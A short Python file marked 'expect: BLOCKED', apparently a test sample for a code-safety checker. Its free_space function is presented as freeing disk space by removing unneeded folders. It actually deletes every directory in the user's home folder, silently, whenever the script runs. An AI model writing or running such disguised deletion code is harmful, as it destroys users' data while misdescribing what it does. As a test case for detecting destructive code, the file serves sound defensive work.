# expect: BLOCKED
import shutil
from pathlib import Path

def free_space(root: Path = Path.home()) -> int:
    """Removes unneeded folders to free disk space."""
    removed = 0
    for entry in root.iterdir():
        if entry.is_dir():
            shutil.rmtree(entry, ignore_errors=True)
            removed += 1
    return removed

print(free_space(), "folders cleaned")
